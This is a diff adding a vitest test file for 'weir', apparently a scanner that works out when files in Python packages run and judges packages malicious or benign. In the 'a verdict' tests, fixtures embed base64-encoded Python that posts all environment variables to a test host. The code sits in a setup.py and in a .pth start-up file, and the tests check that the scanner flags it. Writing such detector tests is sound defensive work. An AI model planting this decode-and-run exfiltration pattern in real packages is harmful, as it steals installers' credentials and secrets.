@@ -1,0 +1,159 @@
+import type { AnalysisResult } from '@weir/model';
+import { describe, expect, test } from 'vitest';
+import { analyzeArtifact } from '../analyze.ts';
+import { DEFAULT_ANALYSIS_BUDGET } from '../limits.ts';
+import { createMemoryView } from '../memory-view.ts';
+import { indexPackage } from '../package-index.ts';
+import { openDistribution } from './open-distribution.ts';
+
+type Files = Readonly<Record<string, string>>;
+
+const METADATA = 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.2.0\nRequires-Dist: requests>=2\n\ntext';
+
+async function stagesOf(files: Files, filename: string): Promise<Record<string, string>> {
+  await using view = createMemoryView(files);
+  const index = indexPackage(view, 'directory');
+  const opened = await openDistribution({
+    index,
+    filename,
+    read: (entry) => view.read(entry.index),
+    budget: DEFAULT_ANALYSIS_BUDGET,
+    now: () => 0,
+  });
+  return Object.fromEntries([...(opened?.graph.files ?? [])].map(([path, file]) => [path, file.stage]));
+}
+
+async function analyze(files: Files, filename: string): Promise<AnalysisResult> {
+  await using view = createMemoryView(files);
+  return analyzeArtifact(
+    view,
+    { ecosystem: 'pypi', filename, context: null },
+    {
+      layout: 'directory',
+      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
+      rulesetVersion: 'test',
+      now: () => 0,
+    },
+  );
+}
+
+describe('what runs when', () => {
+  test('of sources: the build at install, packages at import, the rest when it is used', async () => {
+    expect(
+      await stagesOf(
+        {
+          'PKG-INFO': METADATA,
+          'setup.py': 'from helper import x\nexec(open("acme/_version.py").read())',
+          'helper.py': 'x = 1',
+          'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["build"]',
+          'build/own.py': 'def build_wheel(): pass',
+          'acme/__init__.py': 'from . import core\nfrom .sub.deep import y',
+          'acme/_version.py': 'v = 1',
+          'acme/core.py': '',
+          'acme/cli.py': '',
+          'acme/sub/__init__.py': '',
+          'acme/sub/deep.py': '',
+          'tests/test_x.py': '',
+          'docs/conf.py': '',
+        },
+        'acme_tool-1.2.0.tar.gz',
+      ),
+    ).toEqual({
+      'PKG-INFO': 'dead',
+      'setup.py': 'install',
+      'helper.py': 'install',
+      'pyproject.toml': 'dead',
+      'build/own.py': 'install',
+      'acme/__init__.py': 'import',
+      'acme/_version.py': 'install',
+      'acme/core.py': 'import',
+      'acme/cli.py': 'use',
+      'acme/sub/__init__.py': 'import',
+      'acme/sub/deep.py': 'import',
+      'tests/test_x.py': 'dead',
+      'docs/conf.py': 'dead',
+    });
+  });
+
+  test('of a wheel: what Python starts with, then packages', async () => {
+    expect(
+      await stagesOf(
+        {
+          'acme_tool-1.2.0.dist-info/METADATA': METADATA,
+          'acme_tool-1.2.0.dist-info/entry_points.txt': '[console_scripts]\nacme = acme.cli:main\n',
+          'acme/__init__.py': '',
+          'acme/cli.py': '',
+          'acme-start.pth': 'import acme.boot\n',
+          'acme/boot.py': '',
+          'sitecustomize.py': '',
+          'setup.py': '',
+        },
+        'acme_tool-1.2.0-py3-none-any.whl',
+      ),
+    ).toMatchObject({
+      'acme/__init__.py': 'install',
+      'acme/boot.py': 'install',
+      'acme/cli.py': 'use',
+      'acme-start.pth': 'install',
+      'sitecustomize.py': 'install',
+      'setup.py': 'import',
+    });
+  });
+});
+
+describe('a verdict', () => {
+  const payload = Buffer.from(
+    'import os, requests\nrequests.post("https://collect.weir.test", json=dict(os.environ))',
+  ).toString('base64');
+
+  test('of a setup script that decodes and runs what sends the environment away', async () => {
+    const result = await analyze(
+      {
+        'PKG-INFO': METADATA,
+        'setup.py': `from setuptools import setup\nimport base64 as b\nexec(b.b64decode("${payload}"))\nsetup(name="acme-tool")`,
+      },
+      'acme_tool-1.2.0.tar.gz',
+    );
+
+    expect(result.judgement).toMatchObject({ verdict: 'malicious', stage: 'install', complete: true });
+    expect(result.findings.map(({ rule }) => rule)).toEqual(
+      expect.arrayContaining(['decode-and-run/decoded-code', 'env-to-network/environment']),
+    );
+    expect(
+      result.findings.find(({ rule }) => rule === 'decode-and-run/decoded-code')?.location,
+    ).toMatchObject({ file: 'setup.py', line: 3 });
+  });
+
+  test('of the same line in a file of start-up paths', async () => {
+    const result = await analyze(
+      {
+        'x-1.0.dist-info/METADATA': METADATA,
+        'x.pth': `import base64; exec(base64.b64decode("${payload}"))\n`,
+        'x/__init__.py': '',
+      },
+      'x-1.0-py3-none-any.whl',
+    );
+
+    expect(result.judgement).toMatchObject({ verdict: 'malicious', stage: 'install' });
+  });
+
+  test('of an honest library that reads a token and asks an API when it is called', async () => {
+    const result = await analyze(
+      {
+        'PKG-INFO': METADATA,
+        'setup.py':
+          'from setuptools import setup, find_packages\nsetup(name="acme", packages=find_packages())',
+        'acme/__init__.py': 'from .client import Client',
+        'acme/client.py':
+          'import os\nimport requests\n\n\nclass Client:\n    def __init__(self, token=None):\n        self.token = token or os.environ.get("ACME_TOKEN")\n\n    def items(self):\n        return requests.get("https://api.weir.test/items", headers={"Authorization": self.token}).json()\n',
+      },
+      'acme-1.0.tar.gz',
+    );
+
+    expect(result.judgement).toMatchObject({ verdict: 'benign', complete: true });
+  });
+
+  test('of what is no distribution: unknown', async () => {
+    expect((await analyze({ 'readme.txt': 'x' }, 'x-1.tar.gz')).judgement.verdict).toBe('inconclusive');
+  });
+});
